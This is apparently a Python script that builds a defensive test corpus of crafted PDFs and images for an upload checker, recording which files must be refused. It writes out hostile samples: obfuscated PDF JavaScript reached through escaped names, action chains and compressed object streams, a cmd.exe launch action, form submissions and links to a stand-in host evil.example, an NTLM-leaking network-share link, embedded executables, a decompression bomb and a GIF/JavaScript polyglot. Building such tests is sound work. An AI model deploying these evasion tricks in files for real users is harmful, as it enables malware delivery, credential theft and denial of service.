"""Build the crafted-upload corpus: PDFs and images an attacker (or an unlucky complainant) sends, each with
what the upload check must do with it. Run from the repository root:

    .venv/bin/python security/corpus/make_corpus.py

It (re)writes security/corpus/pdf/, security/corpus/images/, security/corpus/other/ and manifest.json; the
generated files are committed so the tests read exactly these bytes. security/test_uploads.py feeds every file
through the real upload path and checks the manifest's verdict: "refuse" with a Chinese reason containing
`reason`, or "accept" (images stored re-encoded, without what was hidden in them).

Ordinary files come from pypdf's and Pillow's writers; the crafted ones are written byte by byte by `raw_pdf`
below, because the tricks are in the syntax a writer would never produce: `#`-escaped names (/J#61vaScript),
/Next chains through indirect objects, cycles, objects hidden in a compressed object stream, a page tree that
contains itself.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
MANIFEST: dict[str, dict] = {}


def put(rel: str, data: bytes, expect: str, reason: str = "", note: str = "") -> None:
    path = HERE / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    MANIFEST[rel] = {"expect": expect, "reason": reason, "note": note}


# --------------------------------------------------------------------------------------------- raw PDF writer
def raw_pdf(objects: dict[int, bytes], *, root: int = 1, compressed: dict[int, bytes] | None = None,
            header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF from numbered object bodies. Objects in `compressed` go into one object stream (/ObjStm), indexed by
    a cross-reference stream, so none of their bytes appear in the file uncompressed."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    if not compressed:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for num in range(1, size):
            out += (b"%010d 00000 n \n" % offsets[num]) if num in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
        return bytes(out)
    stm = max(max(objects), max(compressed)) + 1
    xref_num = stm + 1
    head, body = bytearray(), bytearray()
    for num in sorted(compressed):
        head += b"%d %d " % (num, len(body))
        body += compressed[num] + b"\n"
    data = zlib.compress(bytes(head) + bytes(body))
    offsets[stm] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stm, len(compressed), len(head), len(data))) + data + b"\nendstream\nendobj\n"
    size = xref_num + 1
    rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
    index_in_stm = {num: i for i, num in enumerate(sorted(compressed))}
    offsets[xref_num] = len(out)
    for num in range(1, size):
        if num in offsets:
            rows += struct.pack(">BIH", 1, offsets[num], 0)
        elif num in compressed:
            rows += struct.pack(">BIH", 2, stm, index_in_stm[num])
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    xdata = zlib.compress(bytes(rows))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (xref_num, size, root, len(xdata))) + xdata + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_num]
    return bytes(out)


def doc(*, catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None,
        compressed: dict[int, bytes] | None = None) -> bytes:
    """Catalog 1, page tree 2, one page 3; `extra` objects from 4 on."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        **(extra or {}),
    }
    return raw_pdf(objects, compressed=compressed)


JS = b"<< /S /JavaScript /JS (app.alert\\('x'\\);) >>"
JS_ESCAPED = b"<< /S /J#61vaScript /J#53 (app.alert\\('x'\\);) >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def pdfs() -> None:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript
    from pypdf.annotations import Link

    def written(w: PdfWriter) -> bytes:
        buf = io.BytesIO()
        w.write(buf)
        return buf.getvalue()

    # ---- accepted
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    put("pdf/ok_blank.pdf", written(w), "accept", note="pypdf, one blank page")
    w = PdfWriter()
    for _ in range(3):
        w.add_blank_page(width=200, height=200)
    w.add_annotation(0, Link(rect=(10, 10, 60, 30), target_page_index=2))
    for i in range(3):
        w.add_outline_item(title=f"第{i + 1}页", page_number=i)
    put("pdf/ok_internal_links_outline.pdf", written(w), "accept",
        note="pypdf: a GoTo link to another page and an outline (internal navigation is harmless)")
    content = b"BT /F1 12 Tf 20 100 Td (JavaScript, Launch and URI are only words here) Tj ET"
    put("pdf/ok_text_mentions_javascript.pdf", doc(
        page=b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>",
        extra={4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
               5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}), "accept",
        note="the words JavaScript and Launch in page text, not as PDF names")
    put("pdf/ok_next_cycle_of_gotos.pdf", doc(
        catalog=b"/OpenAction 4 0 R",
        extra={4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"}),
        "accept", note="a /Next cycle of harmless GoTo actions: the walk must end")
    put("pdf/ok_compressed_objects.pdf", doc(compressed={4: b"<< /Producer (objstm) >>"}), "accept",
        note="an object stream and a cross-reference stream with nothing dangerous")

    # ---- scripts, however they are reached
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.add_open_action(JavaScript("app.alert('x');"))
    put("pdf/bad_js_open_action_pypdf.pdf", written(w), "refuse", "脚本", "pypdf add_open_action(JavaScript)")
    put("pdf/bad_js_open_action_escaped.pdf", doc(catalog=b"/OpenAction " + JS_ESCAPED), "refuse", "脚本",
        "/S /J#61vaScript /J#53: names escaped so no byte spells JavaScript")
    chain = {4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"}
    for n in range(5, 25):
        chain[n] = b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (n + 1)
    chain[25] = JS_ESCAPED
    put("pdf/bad_js_next_chain_deep.pdf", doc(catalog=b"/OpenAction 4 0 R", extra=chain), "refuse", "脚本",
        "OpenAction → 21 GoTo actions chained by single /Next dicts → escaped JavaScript")
    put("pdf/bad_js_next_array.pdf", doc(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 5 0 R] >>",
        extra={4: GOTO, 5: b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + JS_ESCAPED + b"] >>"}), "refuse", "脚本",
        "/Next arrays, the script as a direct dict in the second")
    put("pdf/bad_js_next_cycle.pdf", doc(
        catalog=b"/OpenAction 4 0 R",
        extra={4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
               5: b"<< /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 6 0 R] >>", 6: JS}), "refuse", "脚本",
        "a /Next cycle with a script hanging off it")
    put("pdf/bad_js_page_aa.pdf", doc(page=b"/AA << /O 4 0 R >>", extra={4: JS_ESCAPED}), "refuse", "脚本",
        "page open action (/AA /O)")
    put("pdf/bad_js_catalog_aa.pdf", doc(catalog=b"/AA << /WC " + JS + b" >>"), "refuse", "脚本",
        "document will-close action (catalog /AA /WC)")
    put("pdf/bad_js_annotation_aa.pdf", doc(
        page=b"/Annots [4 0 R]",
        extra={4: b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /E 5 0 R >> >>", 5: JS_ESCAPED}),
        "refuse", "脚本", "annotation mouse-enter action")
    put("pdf/bad_js_acroform_kid.pdf", doc(
        catalog=b"/AcroForm << /Fields [4 0 R] >>",
        extra={4: b"<< /T (parent) /Kids [5 0 R] >>",
               5: b"<< /Parent 4 0 R /T (kid) /FT /Tx /AA << /K 6 0 R >> >>", 6: JS_ESCAPED}),
        "refuse", "脚本", "an AcroForm field's kid with a keystroke script")
    put("pdf/bad_js_names_tree.pdf", doc(
        catalog=b"/Names << /J#61vaScript 4 0 R >>",
        extra={4: b"<< /Kids [5 0 R] >>", 5: b"<< /Names [(a) 6 0 R] /Limits [(a) (a)] >>", 6: JS}),
        "refuse", "脚本", "document-level script in the Names tree, via a /Kids node")
    put("pdf/bad_js_outline.pdf", doc(
        catalog=b"/Outlines 4 0 R",
        extra={4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
               5: b"<< /Title (x) /Parent 4 0 R /A 6 0 R >>", 6: JS_ESCAPED}),
        "refuse", "脚本", "a bookmark whose action is a script")
    put("pdf/bad_js_in_object_stream.pdf", doc(
        catalog=b"/OpenAction 4 0 R", compressed={4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: JS}),
        "refuse", "脚本", "the actions inside a Flate-compressed object stream: nothing to see in the raw bytes")
    put("pdf/bad_js_rendition.pdf", doc(catalog=b"/OpenAction << /S /Rendition /OP 0 /J#53 (app.alert\\(1\\)) >>"),
        "refuse", "脚本", "a rendition action carrying a script")
    put("pdf/bad_js_unreachable_object.pdf", doc(extra={4: JS_ESCAPED}), "refuse", "脚本",
        "a script object no dictionary points to (a viewer rebuilding a broken xref may still find it)")

    # ---- other dangerous actions
    put("pdf/bad_launch.pdf", doc(catalog=b"/OpenAction << /S /La#75nch /F (cmd.exe) >>"), "refuse", "启动外部程序",
        "/Launch, escaped")
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.add_annotation(0, Link(rect=(10, 10, 60, 30), url="http://evil.example/"))
    put("pdf/bad_uri_link_pypdf.pdf", written(w), "refuse", "外部链接", "pypdf Link annotation with a URL")
    put("pdf/bad_uri_next.pdf", doc(page=b"/Annots [4 0 R]", extra={
        4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>",
        5: b"<< /S /URI /URI (http://evil.example/?leak) >>"}), "refuse", "外部链接", "a link's /Next to a URI")
    put("pdf/bad_submitform.pdf", doc(
        catalog=b"/AcroForm << /Fields [4 0 R] >>",
        extra={4: b"<< /T (f) /FT /Btn /A << /S /SubmitForm /F (http://evil.example/) >> >>"}),
        "refuse", "提交", "a button submitting the form to a remote address")
    put("pdf/bad_importdata.pdf", doc(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "refuse",
        "导入外部数据")
    put("pdf/bad_gotor.pdf", doc(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "refuse", "其他文件", "GoToR to a network share (leaks NTLM credentials on Windows)")
    put("pdf/bad_gotoe.pdf", doc(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>"), "refuse", "其他文件")

    # ---- embedded files, XFA, rich media
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.add_attachment("payload.exe", b"MZ\x90\x00")
    put("pdf/bad_embedded_file_pypdf.pdf", written(w), "refuse", "嵌入文件", "pypdf add_attachment")
    put("pdf/bad_embedded_file_escaped.pdf", doc(
        catalog=b"/Names << /EmbeddedFil#65s << /Names [(x) 4 0 R] >> >>",
        extra={4: b"<< /Type /Filespec /F (x.exe) /#45F << /F 5 0 R >> >>",
               5: b"<< /Type /EmbeddedFil#65 /Length 2 >>\nstream\nMZ\nendstream"}), "refuse", "嵌入文件")
    put("pdf/bad_file_attachment_annotation.pdf", doc(page=b"/Annots [4 0 R]", extra={
        4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
        5: b"<< /Type /Filespec /F (x.exe) >>"}), "refuse", "嵌入文件")
    put("pdf/bad_xfa.pdf", doc(catalog=b"/AcroForm << /Fields [] /X#46A 4 0 R >>",
                               extra={4: b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"}), "refuse", "XFA")
    put("pdf/bad_richmedia.pdf", doc(page=b"/Annots [4 0 R]", extra={
        4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"}), "refuse", "多媒体")

    # ---- malformed, hostile structure
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.encrypt(user_password="", owner_password="owner")
    put("pdf/bad_encrypted.pdf", written(w), "refuse", "加密")
    put("pdf/bad_page_tree_cycle.pdf", raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}), "refuse", "",
        "a page tree that contains itself: refused (as broken or too complex), and quickly")
    part = b"[" + b"<< /A 1 >> " * 70_000 + b"]"
    put("pdf/bad_too_many_objects.pdf", doc(catalog=b"/Junk 4 0 R", compressed={
        4: b"[5 0 R 6 0 R 7 0 R]", 5: part, 6: part, 7: part}), "refuse", "过于复杂",
        "210 000 dictionaries in three arrays each under pypdf's own element limit (in a compressed object stream, "
        "so the file is small): the walk is bounded")
    put("pdf/bad_huge_array.pdf", doc(catalog=b"/Junk 4 0 R", compressed={4: b"[" + b"0 " * 150_000 + b"]"}),
        "refuse", "过于复杂", "one array of 150 000 numbers: past pypdf's own element limit")
    put("pdf/bad_deep_nesting.pdf", doc(catalog=b"/Junk " + b"[" * 5000 + b"]" * 5000), "refuse", "",
        "arrays nested 5000 deep")
    put("pdf/bad_no_pages.pdf", raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                         2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "refuse", "没有页面")
    put("pdf/bad_truncated.pdf", doc()[:60], "refuse", "PDF")
    put("pdf/bad_header_then_html.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n", "refuse", "PDF")


# --------------------------------------------------------------------------------------------- images
def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def images() -> None:
    from PIL import Image

    def saved(img, fmt, **kw) -> bytes:
        buf = io.BytesIO()
        img.save(buf, fmt, **kw)
        return buf.getvalue()

    img = Image.new("RGB", (40, 30), (200, 30, 30))
    put("images/ok.png", saved(img, "PNG"), "accept")
    put("images/ok.jpg", saved(img, "JPEG"), "accept")
    put("images/ok.webp", saved(img, "WEBP"), "accept")
    put("images/ok.gif", saved(img.convert("P"), "GIF"), "accept")
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    exif[0x013B] = "张晓明"  # Artist: the person who took the photo
    put("images/ok_exif_gps.jpg", saved(img, "JPEG", exif=exif.tobytes()), "accept",
        note="accepted, stored without EXIF (checked: no metadata left)")
    put("images/ok_html_after_jpeg.jpg", saved(img, "JPEG") + b"<script>alert(1)</script>", "accept",
        note="bytes after the JPEG end marker: stored re-encoded, the script is gone")
    put("images/ok_png_text_chunk.png", saved(img, "PNG", pnginfo=_pnginfo("<script>alert(1)</script>")), "accept",
        note="a tEXt chunk with HTML: stored re-encoded, the chunk is gone")
    # GIF89a/* … */=alert(1)// : a GIF whose header parses as JavaScript (width 0x2A2F spells "/*").
    gif = bytearray(saved(Image.new("P", (0x2A2F, 1)), "GIF", comment=b"*/=alert(1)//"))
    assert gif[6:8] == b"/*"
    put("images/ok_gif_js_polyglot.gif", bytes(gif) + b"*/=alert(1)//", "accept",
        note="GIF/JavaScript polyglot: stored re-encoded, no script left (or refused)")
    # A PNG header claiming 100000 × 100000 pixels with almost no data.
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    put("images/bad_huge_dimensions.png", b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 100)) + _png_chunk(b"IEND", b""), "refuse", "分辨率过大")
    # A real decompression bomb: 20000 × 20000 black pixels (1 bit), about 50 kB compressed.
    z = zlib.compressobj(9)
    row = b"\x00" * (1 + 20_000 // 8)
    idat = b"".join(z.compress(row) for _ in range(20_000)) + z.flush()
    put("images/bad_bomb.png", b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 20_000, 20_000, 1, 0,
                                                                                         0, 0, 0))
        + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""), "refuse", "分辨率过大")
    put("images/bad_truncated.jpg", saved(img, "JPEG")[:200], "refuse", "图片")
    put("images/bad_png_magic_jpeg_body.png", b"\x89PNG\r\n\x1a\n" + saved(img, "JPEG")[2:], "refuse", "图片")
    put("images/bad_script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "refuse", "类型不被接受")
    put("images/bad_html_named.jpg", b"<!doctype html><script>alert(1)</script>", "refuse", "类型不被接受")


def _pnginfo(text: str):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text)
    return info


def others() -> None:
    put("other/bad_empty.pdf", b"", "refuse", "空文件")
    put("other/bad_zip.pdf", b"PK\x03\x04" + b"\x00" * 26 + b"x.js" + b"alert(1)", "refuse", "类型不被接受")
    put("other/bad_exe.jpg", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00", "refuse", "类型不被接受")
    put("other/bad_html.pdf", b"<html><body onload=alert(1)>", "refuse", "类型不被接受")


def main() -> int:
    for sub in ("pdf", "images", "other"):
        for old in (HERE / sub).glob("*"):
            old.unlink()
    pdfs()
    images()
    others()
    (HERE / "manifest.json").write_text(json.dumps(MANIFEST, ensure_ascii=False, indent=1, sort_keys=True) + "\n",
                                        encoding="utf-8")
    print(f"{len(MANIFEST)} files written under {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
